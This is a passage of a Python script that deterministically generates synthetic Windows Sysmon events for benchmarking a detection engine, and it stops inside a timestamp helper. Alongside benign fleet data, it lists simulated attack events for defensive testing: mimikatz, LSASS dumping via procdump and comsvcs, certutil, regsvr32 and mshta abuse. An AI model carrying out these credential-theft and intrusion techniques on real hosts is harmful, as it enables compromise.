"""Deterministic generator of Windows Sysmon-shaped events for benchmarks and demos.

Why it exists: the engine's throughput depends on what field values look like (their length, how
varied they are, how many rules test each field), so benchmarking on a handful of repeated strings
would flatter caches and misjudge a real fleet. The events here imitate a Windows estate of ~200
hosts and ~30 users: browsers, Office, developer tools, Windows Update, Defender, services, with
random GUIDs, pids, ports, hashes and file names, plus a small share of attack-like events that
SigmaHQ rules are written to catch.

Determinism: the same (n, seed, attack_ratio) always yields the same events, and the CLI writes
byte-identical NDJSON: everything comes from one ``random.Random(seed)``, timestamps advance from a
fixed start, file hashes derive from hashlib, and nothing depends on the wall clock or on
``hash()`` randomisation.

Usage::

    python benchmarks/events.py 100000 --seed 1 --attack-ratio 0.002 > events.ndjson
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import sys
from bisect import bisect
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from itertools import accumulate, islice
from random import Random
from typing import Any

try:  # orjson is a project dependency; plain json keeps the script usable in a bare interpreter.
    import orjson

    def _dumps(obj: dict[str, Any]) -> bytes:
        return orjson.dumps(obj)

except ImportError:  # pragma: no cover - exercised only without orjson
    import json

    def _dumps(obj: dict[str, Any]) -> bytes:
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode()


Event = dict[str, Any]

CHANNEL = "Microsoft-Windows-Sysmon/Operational"
PROVIDER = "Microsoft-Windows-Sysmon"
START = datetime(2026, 11, 28, 10, 0, 0, tzinfo=UTC)
MEAN_GAP_MS = 8.0  # ~125 events/s across the fleet

DOMAIN = "CORP"
DNS_SUFFIX = "corp.example.com"
SID_BASE = "S-1-5-21-3623811015-3361044348-30300820"

SYSTEM = "NT AUTHORITY\\SYSTEM"
LOCAL_SERVICE = "NT AUTHORITY\\LOCAL SERVICE"
NETWORK_SERVICE = "NT AUTHORITY\\NETWORK SERVICE"
SERVICE_ACCOUNTS = {SYSTEM: "0x3e7", LOCAL_SERVICE: "0x3e5", NETWORK_SERVICE: "0x3e4"}

WIN_PRODUCT = "Microsoft\u00ae Windows\u00ae Operating System"
MS = "Microsoft Corporation"

SYS32 = "C:\\Windows\\System32"
PS_PATH = SYS32 + "\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD_PATH = SYS32 + "\\cmd.exe"
CHROME_DIR = "C:\\Program Files\\Google\\Chrome\\Application"
EDGE_DIR = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application"
OFFICE_DIR = "C:\\Program Files\\Microsoft Office\\root\\Office16"
DEFENDER_DIR = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0"
TEAMS_DIR = "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe"

FIRST_NAMES = (
    "anna", "ben", "carla", "david", "elena", "farid", "grace", "hugo", "ines", "jonas",
    "kofi", "lena", "marco", "nadia", "oscar", "priya", "quentin", "rosa", "sven", "tomas",
    "uma", "victor", "wei", "ximena", "yusuf", "zoe", "aiko", "bruno", "chloe", "dmitri",
)  # fmt: skip
LAST_NAMES = (
    "kowalski", "martin", "nguyen", "schmidt", "haddad", "okafor", "silva", "jensen", "rossi",
    "tanaka", "novak", "dubois", "garcia", "larsen", "murphy", "patel", "weber", "kim", "costa",
    "fischer", "moreau", "ivanova", "lopez", "berg", "ahmed", "walsh", "meyer", "sato", "romano",
    "clarke",
)  # fmt: skip
DEPARTMENTS = ("FIN", "HR", "ENG", "SALES", "MKT", "OPS", "LEGAL", "IT")
SERVER_ROLES = ("FS", "SQL", "WEB", "APP", "PRINT", "CA", "EXCH", "BUILD")

REPOS = ("billing-api", "infra-terraform", "web-portal", "data-pipeline", "mobile-app", "docs", "etl-jobs")
DOC_WORDS = (
    "Q3 Report", "Budget 2027", "Board Minutes", "Onboarding Checklist", "Sales Forecast", "Invoice",
    "Project Plan", "Vendor Contract", "Roadmap", "Incident Review", "Team Offsite", "Pricing Model",
)  # fmt: skip
WEB_HOSTS = (
    ("www.google.com", "142.250.", 443), ("clients2.google.com", "142.250.", 443),
    ("www.youtube.com", "172.217.", 443), ("login.microsoftonline.com", "20.190.", 443),
    ("outlook.office365.com", "52.97.", 443), ("teams.microsoft.com", "52.113.", 443),
    ("graph.microsoft.com", "20.44.", 443), ("github.com", "140.82.", 443),
    ("pypi.org", "151.101.", 443), ("files.pythonhosted.org", "151.101.", 443),
    ("stackoverflow.com", "104.18.", 443), ("www.linkedin.com", "13.107.", 443),
    ("slack.com", "54.192.", 443), ("zoom.us", "170.114.", 443), ("cdn.jsdelivr.net", "104.16.", 443),
    ("en.wikipedia.org", "185.15.", 443), ("ocsp.digicert.com", "192.229.", 80),
)  # fmt: skip
# Desktop apps and the services they connect to (EventID 3 pairs them, not any app with any site).
APP_HOSTS: tuple[tuple[str, tuple[str, str, int]], ...] = (
    ("outlook", ("outlook.office365.com", "52.97.", 443)), ("outlook", ("outlook.office.com", "52.98.", 443)),
    ("winword", ("officeclient.microsoft.com", "52.109.", 443)),
    ("excel", ("nexusrules.officeapps.live.com", "52.111.", 443)),
    ("teams_classic", ("teams.microsoft.com", "52.113.", 443)),
    ("msedgewebview2", ("teams.microsoft.com", "52.113.", 443)),
    ("msedgewebview2", ("login.microsoftonline.com", "20.190.", 443)),
    ("slack", ("slack.com", "54.192.", 443)), ("slack", ("wss-primary.slack.com", "34.232.", 443)),
    ("zoom", ("zoom.us", "170.114.", 443)),
)  # fmt: skip
MS_HOSTS = (
    ("settings-win.data.microsoft.com", "20.42.", 443), ("v10.events.data.microsoft.com", "20.189.", 443),
    ("wdcp.microsoft.com", "20.150.", 443), ("ctldl.windowsupdate.com", "93.184.", 80),
    ("fe3cr.delivery.mp.microsoft.com", "20.72.", 443), ("oneclient.sfx.ms", "13.107.", 443),
    ("my.microsoftpersonalcontent.com", "20.190.", 443), ("officeclient.microsoft.com", "52.109.", 443),
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Binary:
    """Static PE metadata of one program; ``image`` may hold ``{user}`` for per-user installs."""

    image: str
    original: str
    description: str
    product: str = WIN_PRODUCT
    company: str = MS
    versions: tuple[str, ...] = ()  # empty: a Windows component, versioned by the host's OS build
    signer: str = "Microsoft Windows"


@dataclass(slots=True)
class Host:
    """One machine: its name, address, OS build and usual interactive user."""

    fqdn: str
    short: str
    ip: str
    kind: str  # "wks", "srv" or "dc"
    os_version: str
    guid_prefix: str
    user: str
    sessions: dict[str, tuple[str, str]]  # user -> (LogonGuid, LogonId), made on first logon


def _w(name: str, original: str, desc: str) -> Binary:
    return Binary(SYS32 + "\\" + name, original, desc)


B: dict[str, Binary] = {
    "svchost": _w("svchost.exe", "svchost.exe", "Host Process for Windows Services"),
    "services": _w("services.exe", "services.exe", "Services and Controller app"),
    "userinit": _w("userinit.exe", "USERINIT.EXE", "Userinit Logon Application"),
    "gpscript": _w("gpscript.exe", "GPSCRIPT.EXE", "Group Policy Script Application"),
    "explorer": Binary("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer"),
    "cmd": _w("cmd.exe", "Cmd.Exe", "Windows Command Processor"),
    "powershell": Binary(PS_PATH, "PowerShell.EXE", "Windows PowerShell"),
    "pwsh": Binary(
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
        "pwsh.dll",
        "pwsh",
        "PowerShell",
        MS,
        ("7.4.6.500",),
        "Microsoft Corporation",
    ),
    "conhost": _w("conhost.exe", "CONHOST.EXE", "Console Window Host"),
    "taskhostw": _w("taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks"),
    "bgtaskhost": _w("backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host"),
    "runtimebroker": _w("RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker"),
    "dllhost": _w("dllhost.exe", "dllhost.exe", "COM Surrogate"),
    "searchindexer": _w("SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer"),
    "searchprotocol": _w(
        "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"
    ),
    "searchfilter": _w(
        "SearchFilterHost.exe", "SearchFilterHost.exe", "Microsoft Windows Search Filter Host"
    ),
    "wmiprvse": _w("wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host"),
    "smartscreen": _w("smartscreen.exe", "smartscreen.exe", "Windows Defender SmartScreen"),
    "sihost": _w("sihost.exe", "sihost.exe", "Shell Infrastructure Host"),
    "ctfmon": _w("ctfmon.exe", "CTFMON.EXE", "CTF Loader"),
    "audiodg": _w("audiodg.exe", "AUDIODG.EXE", "Windows Audio Device Graph Isolation"),
    "compattel": _w("CompatTelRunner.exe", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry"),
    "sechealth": _w("SecurityHealthHost.exe", "SecurityHealthHost.exe", "Windows Security Health Host"),
    "mousocore": _w("MoUsoCoreWorker.exe", "MoUsoCoreWorker.exe", "MoUSO Core Worker Process"),
    "wuauclt": _w("wuauclt.exe", "wuauclt.exe", "Windows Update"),
    "tiworker": Binary(
        "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.5125"
        "_none_7e1e4a8c5a2c96f4\\TiWorker.exe",
        "TiWorker.exe",
        "Windows Modules Installer Worker",
    ),
    "trustedinstaller": Binary(
        "C:\\Windows\\servicing\\TrustedInstaller.exe", "TrustedInstaller.exe", "Windows Modules Installer"
    ),
    "msiexec": _w("msiexec.exe", "msiexec.exe", "Windows\u00ae installer"),
    "notepad": _w("notepad.exe", "NOTEPAD.EXE", "Notepad"),
    "mmc": _w("mmc.exe", "MMC.exe", "Microsoft Management Console"),
    "taskmgr": _w("Taskmgr.exe", "Taskmgr.exe", "Task Manager"),
    "mstsc": _w("mstsc.exe", "mstsc.exe", "Remote Desktop Connection"),
    "w3wp": _w("inetsrv\\w3wp.exe", "w3wp.exe", "IIS Worker Process"),
    "lsass": _w("lsass.exe", "lsass.exe", "Local Security Authority Process"),
    "system": Binary("System", "", ""),
    "msmpeng": Binary(
        DEFENDER_DIR + "\\MsMpEng.exe",
        "MsMpEng.exe",
        "Antimalware Service Executable",
        WIN_PRODUCT,
        MS,
        ("4.18.24090.11",),
        "Microsoft Windows Publisher",
    ),
    "mpcmdrun": Binary(
        DEFENDER_DIR + "\\MpCmdRun.exe",
        "MpCmdRun.exe",
        "Microsoft Malware Protection Command Line Utility",
        WIN_PRODUCT,
        MS,
        ("4.18.24090.11",),
        "Microsoft Windows Publisher",
    ),
    "chrome": Binary(
        CHROME_DIR + "\\chrome.exe",
        "chrome.exe",
        "Google Chrome",
        "Google Chrome",
        "Google LLC",
        ("131.0.6778.86", "131.0.6778.70", "130.0.6723.117"),
        "Google LLC",
    ),
    "msedge": Binary(
        EDGE_DIR + "\\msedge.exe",
        "msedge.exe",
        "Microsoft Edge",
        "Microsoft Edge",
        MS,
        ("131.0.2903.70", "131.0.2903.51"),
        "Microsoft Corporation",
    ),
    "msedgewebview2": Binary(
        "C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\131.0.2903.70\\msedgewebview2.exe",
        "msedgewebview2.exe",
        "Microsoft Edge WebView2",
        "Microsoft Edge WebView2",
        MS,
        ("131.0.2903.70",),
        "Microsoft Corporation",
    ),
    "msteams": Binary(
        TEAMS_DIR + "\\ms-teams.exe",
        "ms-teams.exe",
        "Microsoft Teams",
        "Microsoft Teams",
        MS,
        ("24295.605.3225.8804",),
        "Microsoft Corporation",
    ),
    "teams_classic": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        "Teams.exe",
        "Microsoft Teams",
        "Microsoft Teams",
        MS,
        ("1.7.00.13456",),
        "Microsoft Corporation",
    ),
    "onedrive": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
        "OneDrive.exe",
        "Microsoft OneDrive",
        "Microsoft OneDrive",
        MS,
        ("24.216.1027.0001", "24.201.1006.0005"),
        "Microsoft Corporation",
    ),
    "onedrivesetup": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneDriveSetup.exe",
        "OneDriveSetup.exe",
        "Microsoft OneDrive Setup",
        "Microsoft OneDrive",
        MS,
        ("24.216.1027.0001",),
        "Microsoft Corporation",
    ),
    "filecoauth": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\24.216.1027.0001\\FileCoAuth.exe",
        "FileCoAuth.exe",
        "Microsoft OneDriveFile Co-Authoring Executable",
        "Microsoft OneDrive",
        MS,
        ("24.216.1027.0001",),
        "Microsoft Corporation",
    ),
    "winword": Binary(
        OFFICE_DIR + "\\WINWORD.EXE",
        "WinWord.exe",
        "Microsoft Word",
        "Microsoft Office",
        MS,
        ("16.0.18129.20158", "16.0.18025.20160"),
        "Microsoft Corporation",
    ),
    "excel": Binary(
        OFFICE_DIR + "\\EXCEL.EXE",
        "Excel.exe",
        "Microsoft Excel",
        "Microsoft Office",
        MS,
        ("16.0.18129.20158", "16.0.18025.20160"),
        "Microsoft Corporation",
    ),
    "outlook": Binary(
        OFFICE_DIR + "\\OUTLOOK.EXE",
        "Outlook.exe",
        "Microsoft Outlook",
        "Microsoft Office",
        MS,
        ("16.0.18129.20158", "16.0.18025.20160"),
        "Microsoft Corporation",
    ),
    "powerpnt": Binary(
        OFFICE_DIR + "\\POWERPNT.EXE",
        "POWERPNT.EXE",
        "Microsoft PowerPoint",
        "Microsoft Office",
        MS,
        ("16.0.18129.20158",),
        "Microsoft Corporation",
    ),
    "c2r": Binary(
        "C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe",
        "OfficeClickToRun.exe",
        "Microsoft Office Click-to-Run",
        "Microsoft Office",
        MS,
        ("16.0.18129.20158",),
        "Microsoft Corporation",
    ),
    "git": Binary(
        "C:\\Program Files\\Git\\cmd\\git.exe",
        "git.exe",
        "Git for Windows",
        "Git",
        "The Git Development Community",
        ("2.47.1.1", "2.46.2.1"),
        "Johannes Schindelin",
    ),
    "git_mingw": Binary(
        "C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
        "git.exe",
        "Git for Windows",
        "Git",
        "The Git Development Community",
        ("2.47.1.1", "2.46.2.1"),
        "Johannes Schindelin",
    ),
    "python": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
        "python.exe",
        "Python",
        "Python",
        "Python Software Foundation",
        ("3.11.9150.1013", "3.11.7150.1013"),
        "Python Software Foundation",
    ),
    "java": Binary(
        "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.13.11-hotspot\\bin\\java.exe",
        "java.exe",
        "OpenJDK Platform binary",
        "OpenJDK Platform 17.0.13",
        "Eclipse Adoptium",
        ("17.0.13.0",),
        "Eclipse.org Foundation, Inc.",
    ),
    "code": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        "electron.exe",
        "Visual Studio Code",
        "Visual Studio Code",
        MS,
        ("1.95.3", "1.95.2"),
        "Microsoft Corporation",
    ),
    "node": Binary(
        "C:\\Program Files\\nodejs\\node.exe",
        "node.exe",
        "Node.js JavaScript Runtime",
        "Node.js",
        "Node.js",
        ("20.18.1",),
        "OpenJS Foundation",
    ),
    "edgeupdate": Binary(
        "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
        "msedgeupdate.dll",
        "Microsoft Edge Update",
        "Microsoft Edge Update",
        MS,
        ("1.3.195.35",),
        "Microsoft Corporation",
    ),
    "googleupdater": Binary(
        "C:\\Program Files (x86)\\Google\\GoogleUpdater\\131.0.6738.0\\updater.exe",
        "updater.exe",
        "GoogleUpdater",
        "GoogleUpdater",
        "Google LLC",
        ("131.0.6738.0",),
        "Google LLC",
    ),
    "adobearm": Binary(
        "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe",
        "AdobeARM.exe",
        "Adobe Reader and Acrobat Manager",
        "Adobe Reader and Acrobat Manager",
        "Adobe Systems Incorporated",
        ("1.824.460.1042",),
        "Adobe Inc.",
    ),
    "7zfm": Binary(
        "C:\\Program Files\\7-Zip\\7zFM.exe",
        "7zFM.exe",
        "7-Zip File Manager",
        "7-Zip",
        "Igor Pavlov",
        ("24.08",),
        "-",
    ),
    "zoom": Binary(
        "C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe",
        "Zoom.exe",
        "Zoom Workplace",
        "Zoom Workplace",
        "Zoom Video Communications, Inc.",
        ("6.2.11.52613",),
        "Zoom Video Communications, Inc.",
    ),
    "slack": Binary(
        "C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.41.105\\slack.exe",
        "slack.exe",
        "Slack",
        "Slack",
        "Slack Technologies, LLC.",
        ("4.41.105",),
        "Slack Technologies, LLC",
    ),
    "sqlcmd": Binary(
        "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
        "SQLCMD.EXE",
        "T-SQL execution utility",
        "Microsoft SQL Server",
        MS,
        ("15.0.4298.1",),
        "Microsoft Corporation",
    ),
    "agent": Binary(
        "C:\\Program Files\\Contoso\\EndpointAgent\\agent.exe",
        "agent.exe",
        "Contoso Endpoint Agent",
        "Contoso Endpoint Management",
        "Contoso Ltd.",
        ("5.12.3.0", "5.11.9.0"),
        "Contoso Ltd.",
    ),
}

# DLLs loaded by the processes above (EventID 7). Windows components take the host's OS build.
DLLS: tuple[Binary, ...] = tuple(
    _w(name, name, desc)
    for name, desc in (
        ("ntdll.dll", "NT Layer DLL"), ("kernel32.dll", "Windows NT BASE API Client DLL"),
        ("KernelBase.dll", "Windows NT BASE API Client DLL"),
        ("user32.dll", "Multi-User Windows USER API Client DLL"),
        ("advapi32.dll", "Advanced Windows 32 Base API"), ("combase.dll", "Microsoft COM for Windows"),
        ("ws2_32.dll", "Windows Socket 2.0 32-Bit DLL"), ("crypt32.dll", "Crypto API32"),
        ("bcrypt.dll", "Windows Cryptographic Primitives Library"), ("winhttp.dll", "Windows HTTP Services"),
        ("wininet.dll", "Internet Extensions for Win32"), ("dnsapi.dll", "DNS Client API DLL"),
        ("shell32.dll", "Windows Shell Common Dll"), ("ole32.dll", "Microsoft OLE for Windows"),
        ("rpcrt4.dll", "Remote Procedure Call Runtime"), ("sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs"),
        ("uxtheme.dll", "Microsoft UxTheme Library"), ("dwmapi.dll", "Microsoft Desktop Window Manager API"),
        ("profapi.dll", "User Profile Basic API"), ("windows.storage.dll", "Microsoft WinRT Storage API"),
        ("msvcp_win.dll", "Microsoft\u00ae C Runtime Library"),
        ("ucrtbase.dll", "Microsoft\u00ae C Runtime Library"),
        ("iphlpapi.dll", "IP Helper API"), ("netapi32.dll", "Net Win32 API DLL"),
        ("wintrust.dll", "Microsoft Trust Verification APIs"),
        ("cryptbase.dll", "Base cryptographic API DLL"),
        ("mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider"), ("oleaut32.dll", "OLEAUT32.DLL"),
        ("propsys.dll", "Microsoft Property System"), ("powrprof.dll", "Power Profile Helper DLL"),
    )
)  # fmt: skip
APP_DLLS: dict[str, tuple[Binary, ...]] = {
    "chrome": (
        Binary(
            CHROME_DIR + "\\131.0.6778.86\\chrome.dll",
            "chrome.dll",
            "Google Chrome",
            "Google Chrome",
            "Google LLC",
            ("131.0.6778.86",),
            "Google LLC",
        ),
        Binary(
            CHROME_DIR + "\\131.0.6778.86\\chrome_elf.dll",
            "chrome_elf.dll",
            "Google Chrome",
            "Google Chrome",
            "Google LLC",
            ("131.0.6778.86",),
            "Google LLC",
        ),
    ),
    "powershell": (
        Binary(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
            "clr.dll",
            "Microsoft .NET Runtime Common Language Runtime - WorkStation",
            "Microsoft\u00ae .NET Framework",
            MS,
            ("4.8.9282.0",),
            "Microsoft Corporation",
        ),
        Binary(
            "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.A#\\"
            "3f1c2b9d8e7a6f5d4c3b2a1908f7e6d5\\System.Management.Automation.ni.dll",
            "System.Management.Automation.dll",
            "System.Management.Automation",
            WIN_PRODUCT,
            MS,
            ("10.0.19041.5129",),
            "Microsoft Corporation",
        ),
        _w("amsi.dll", "amsi.dll", "Anti-Malware Scan Interface"),
    ),
    "winword": (
        Binary(
            "C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\mso.dll",
            "mso.dll",
            "Microsoft Office component",
            "Microsoft Office",
            MS,
            ("16.0.18129.20116",),
            "Microsoft Corporation",
        ),
        Binary(
            OFFICE_DIR + "\\wwlib.dll",
            "wwlib.dll",
            "Microsoft Word",
            "Microsoft Office",
            MS,
            ("16.0.18129.20158",),
            "Microsoft Corporation",
        ),
    ),
    "java": (
        Binary(
            "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.13.11-hotspot\\bin\\server\\jvm.dll",
            "jvm.dll",
            "OpenJDK 64-Bit server VM",
            "OpenJDK Platform 17.0.13",
            "Eclipse Adoptium",
            ("17.0.13.0",),
            "Eclipse.org Foundation, Inc.",
        ),
    ),
}

# Benign registry writes: (weight, EventType, key template, value details kind, writer binary key).
REG_TEMPLATES: tuple[tuple[int, str, str, str, str], ...] = (
    (10, "SetValue", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{sid}\\"
     "\\Device\\HarddiskVolume3\\{exe_rel}", "binary", "svchost"),
    (8, "SetValue", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\{ext}\\"
     "MRUListEx", "binary", "explorer"),
    (6, "SetValue", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\"
     "{{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\{rot13}", "binary", "explorer"),
    (6, "SetValue", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\"
     "UScheduler_Oobe\\{wu_value}", "dword", "mousocore"),
    (5, "SetValue", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\"
     "SessionsPending\\Exclusive", "dword", "tiworker"),
    (5, "SetValue", "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\"
     "{hex32}_ADAL\\LastSwitchedTime", "qword", "winword"),
    (5, "SetValue", "HKU\\{sid}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\{pref}", "hexstr",
     "chrome"),
    (5, "SetValue", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\"
     "Products\\{hex32}\\InstallProperties\\{inst_value}", "string", "msiexec"),
    (4, "SetValue", "HKU\\{sid}\\Software\\Microsoft\\OneDrive\\Accounts\\Business1\\{od_value}", "string",
     "onedrive"),
    (4, "SetValue", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FolderDescriptions\\"
     "{{{guid}}}\\PropertyBag\\ThisPCPolicy", "string", "explorer"),
    (4, "SetValue", "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{{{guid}}}\\"
     "{dhcp_value}", "dhcp", "svchost"),
    (3, "SetValue", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive", "onedrive_run",
     "onedrivesetup"),
    (3, "SetValue", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{{{guid}}}\\"
     "{inst_value}", "string", "msiexec"),
    (3, "SetValue", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
     "Advanced\\{adv_value}", "dword", "explorer"),
    (2, "SetValue", "HKLM\\SOFTWARE\\Contoso\\EndpointAgent\\State\\{agent_value}", "string", "agent"),
    (7, "CreateKey", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SessionInfo\\{n}\\"
     "ApplicationViewManagement\\W32:{hex16}", "", "explorer"),
    (5, "CreateKey", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\S-1-5-18\\"
     "Components\\{hex32}", "", "msiexec"),
    (4, "CreateKey", "HKU\\{sid}\\Software\\Classes\\Local Settings\\Software\\Microsoft\\Windows\\Shell\\"
     "BagMRU\\{n}", "", "explorer"),
    (4, "DeleteValue", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
     "ComDlg32\\OpenSavePidlMRU\\{ext}\\{n}", "", "explorer"),
    (3, "DeleteValue", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\"
     "RebootRequired\\{{{guid}}}", "", "tiworker"),
    (2, "DeleteKey", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Component Based Servicing\\"
     "PackagesPending\\Package_for_KB{kb}~31bf3856ad364e35~amd64~~10.0.1.{n}", "", "tiworker"),
    (2, "RenameKey", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
     "Discardable\\PostSetup\\ShellNew\\New Key #{n}", "", "explorer"),
)  # fmt: skip
REG_EVENT_IDS = {"SetValue": 13, "CreateKey": 12, "DeleteKey": 12, "DeleteValue": 12, "RenameKey": 14}


def _cum(weights: list[int] | tuple[int, ...]) -> list[int]:
    return list(accumulate(weights))


class _Fleet:
    """Holds the seeded RNG and fleet state; one instance produces one event stream."""

    def __init__(self, seed: int) -> None:
        self.rng = Random(seed)
        r = self.rng
        self.users = [f"{FIRST_NAMES[i]}.{LAST_NAMES[(i * 7) % len(LAST_NAMES)]}" for i in range(30)]
        self.sids = {u: f"{SID_BASE}-{1104 + i}" for i, u in enumerate(self.users)}
        self.hosts: list[Host] = []
        builds = ("10.0.19045.5131", "10.0.22631.4460", "10.0.22631.4541", "10.0.19045.5247")
        for i in range(200):
            if i < 4:
                kind, short, build = "dc", f"DC{i + 1:02d}", "10.0.20348.2849"
            elif i < 30:
                role = SERVER_ROLES[i % len(SERVER_ROLES)]
                kind, short, build = (
                    "srv",
                    f"SRV-{role}-{i:02d}",
                    r.choice(("10.0.20348.2849", "10.0.17763.6532")),
                )
            else:
                dept = DEPARTMENTS[i % len(DEPARTMENTS)]
                kind, short, build = "wks", f"WKS-{dept}-{1000 + r.randrange(9000)}", r.choice(builds)
            user = self.users[i % len(self.users)] if kind == "wks" else r.choice(self.users[:6])
            ip = f"10.{20 + i // 60}.{r.randrange(1, 255)}.{r.randrange(2, 254)}"
            self.hosts.append(
                Host(f"{short}.{DNS_SUFFIX}", short, ip, kind, build, f"{r.getrandbits(32):08x}", user, {})
            )
        # Servers and DCs log more than workstations.
        self.host_cum = _cum([6 if h.kind == "dc" else 3 if h.kind == "srv" else 1 for h in self.hosts])
        self.hash_cache: dict[tuple[str, str], str] = {}
        self.ts_ms = 0
        self._sec = -1
        self._sec_utc = ""
        self._sec_iso = ""
        self.proc_builders: list[Callable[[Host], tuple[Any, ...]]] = []
        weights: list[int] = []
        for weight, fn in (
            (10, self._p_svchost), (12, self._p_chrome), (5, self._p_edge), (4, self._p_teams),
            (3, self._p_onedrive), (1, self._p_explorer), (6, self._p_conhost), (4, self._p_powershell),
            (5, self._p_cmd), (5, self._p_git), (3, self._p_python), (3, self._p_java), (4, self._p_office),
            (3, self._p_winupdate), (2, self._p_defender), (3, self._p_installer), (11, self._p_system_misc),
            (2, self._p_server), (3, self._p_vscode), (3, self._p_user_tools), (2, self._p_agent),
        ):  # fmt: skip
            weights.append(weight)
            self.proc_builders.append(fn)
        self.proc_cum = _cum(weights)
        self.reg_cum = _cum([t[0] for t in REG_TEMPLATES])
        self.type_builders = (self._proc, self._network, self._registry, self._file, self._imageload)
        self.type_cum = _cum([45, 15, 15, 15, 10])
        self.attacks: tuple[Callable[[Host], Event], ...] = (
            self._a_encoded_ps, self._a_certutil, self._a_rundll32_temp, self._a_mimikatz,
            self._a_vssadmin, self._a_run_key, self._a_schtasks, self._a_whoami, self._a_net_user_add,
            self._a_bitsadmin, self._a_mshta, self._a_wmic_create, self._a_procdump_lsass,
            self._a_comsvcs_minidump, self._a_regsvr32_sct, self._a_lolbin_network, self._a_dump_file,
        )  # fmt: skip

    # ---- generic helpers -------------------------------------------------------------------------
    def pick(self, cum: list[int]) -> int:
        return bisect(cum, self.rng.random() * cum[-1])

    def hex(self, digits: int) -> str:
        return f"{self.rng.getrandbits(digits * 4):0{digits}x}"

    def guid(self) -> str:
        variant = "89ab"[self.rng.getrandbits(2)]
        return f"{self.hex(8)}-{self.hex(4)}-4{self.hex(3)}-{variant}{self.hex(3)}-{self.hex(12)}".upper()

    def proc_guid(self, host: Host) -> str:
        return f"{{{host.guid_prefix}-{self.hex(4)}-{self.hex(4)}-{self.hex(4)}-{self.hex(12)}}}"

    def pid(self) -> int:
        return self.rng.randrange(100, 16000) * 4

    def tmp_name(self) -> str:
        return f"tmp{self.rng.getrandbits(16):04X}.tmp"

    def ip_in(self, prefix: str) -> str:
        """Complete a dotted prefix such as "142.250." or "10.10.4." (or a full address) at random."""
        parts = prefix.rstrip(".").split(".")
        r = self.rng
        while len(parts) < 3:
            parts.append(str(r.randrange(0, 256)))
        if len(parts) < 4:
            parts.append(str(r.randrange(1, 255)))
        return ".".join(parts)

    def tick(self) -> tuple[str, str]:
        """Advance the clock and return (UtcTime, @timestamp) strings for the new instant."""
